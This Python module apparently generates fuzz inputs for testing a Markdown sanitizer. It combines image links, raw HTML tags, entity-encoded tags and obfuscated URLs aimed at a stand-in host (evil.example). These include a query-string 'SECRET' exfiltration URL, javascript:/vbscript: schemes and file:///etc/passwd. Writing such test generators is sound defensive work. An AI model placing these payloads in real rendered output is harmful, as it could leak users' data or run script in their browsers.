"""Generate Markdown that tries to make a reader's browser fetch something: a small grammar of attacks."""

import random

URLS = (
    "http://evil.example/a.png",
    "https://evil.example/?q=SECRET",
    "//evil.example/x",
    "HtTp://evil.example",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "www.evil.example/x",
    "&#104;ttp://evil.example/x",
    "http:\\/\\/evil.example",
    "/v1/documents/1",
    "ftp://evil.example",
    "https://intranet.example.org@evil.example/",
    "mailto:a@evil.example?body=x",
    "\\\\evil.example\\x",
    "http://evil.example/(a)",
    "http&colon;//evil.example",
    "java\nscript:alert(1)",
    "vbscript:x",
    "file:///etc/passwd",
    "http://evil.example/\u202egnp.a",
)
TEXTS = (
    "x",
    "1",
    "click *here*",
    "a]b",
    "[b",
    "![c",
    "",
    "`code`",
    "<b>t</b>",
    "\\]",
    "\u200b",
    "a\nb",
    "!",
    "[1]",
    "&#93;",
)
INSERTS = (
    "\u200b",
    "\u200d",
    "\\",
    "\n",
    " ",
    "\t",
    "&#8203;",
    "\u00ad",
    "<",
    ">",
    "[",
    "]",
    "(",
    ")",
    "!",
    "`",
    "&",
    ":",
    "\x00",
    "\r",
)
TAGS = (
    "img",
    "IMG",
    "script",
    "iframe",
    "svg",
    "a",
    "base",
    "link",
    "style",
    "object",
    "video",
    "form",
    "math",
    "input",
    "body",
    "meta",
)


def attack(chance: random.Random) -> str:
    """Return one text: a few attacks and harmless pieces, some nested, some broken by stray characters."""
    pieces = [
        chance.choice((image, link, reference, tag, autolink, bare, entity, nested, harmless))(chance)
        for _ in range(chance.randint(1, 5))
    ]
    text = chance.choice(("", " ", "\n", "\n\n")).join(pieces)
    for _ in range(chance.choice((0, 0, 0, 1, 2, 4))):
        at = chance.randint(0, len(text))
        text = text[:at] + chance.choice(INSERTS) + text[at:]
    return text


def image(chance: random.Random) -> str:
    space = chance.choice(("", "", " ", "\n"))
    title = chance.choice(("", ' "t"', " 't'", " (t)"))
    return f"![{chance.choice(TEXTS)}]({space}{url(chance)}{title})"


def link(chance: random.Random) -> str:
    return f"[{chance.choice(TEXTS)}]({url(chance)})"


def reference(chance: random.Random) -> str:
    label = chance.choice(("1", "ref", "A b", "^1"))
    use = chance.choice((f"[{label}]", f"![{label}]", f"[x][{label}]", f"![x][{label}]", f"[{label}][]"))
    return (
        f"{use}\n\n{chance.choice(('', ' ', '   ', '> '))}[{label}]:{chance.choice((' ', '', chr(10)))}{url(chance)}\n"
    )


def tag(chance: random.Random) -> str:
    name = chance.choice(TAGS)
    space = chance.choice((" ", "/", "\n", "\t"))
    attribute = chance.choice(("src", "href", "onerror", "style", "srcset", "xlink:href", "action", "data"))
    quote = chance.choice(('"', "'", ""))
    closing = chance.choice((">", "/>", f"></{name}>", "", " >"))
    return f"<{name}{space}{attribute}={quote}{url(chance)}{quote}{closing}"


def autolink(chance: random.Random) -> str:
    return f"<{url(chance)}>"


def bare(chance: random.Random) -> str:
    return chance.choice(("", "(", "*", "**", '"')) + url(chance) + chance.choice(("", ")", "*", ".", '"'))


def entity(chance: random.Random) -> str:
    opening = chance.choice(("&#60;", "&lt;", "&#x3c;", "&LT;", "&#x0003C", "&amp;lt;", "\\<"))
    return f"{opening}img src={url(chance)}{chance.choice(('&gt;', '>', '&#62;'))}"


def nested(chance: random.Random) -> str:
    inner = chance.choice((image, link, tag))(chance)
    shape = chance.choice(
        ("[{}]({})", "![{}]({})", "<<b>{} {}", "`{}` {}", "```\n{}\n``` {}", "<!-- {} --> {}", "| {} | {} |\n|--|--|\n")
    )
    return shape.format(inner, url(chance))


def harmless(chance: random.Random) -> str:
    return chance.choice(
        ("You get 12 weeks. [1]", "## Leave", "- item", "a < b", "> quote", "`code`", "5 & 6", "| a |")
    )


def url(chance: random.Random) -> str:
    chosen = chance.choice(URLS)
    return f"<{chosen}>" if chance.random() < 0.1 else chosen
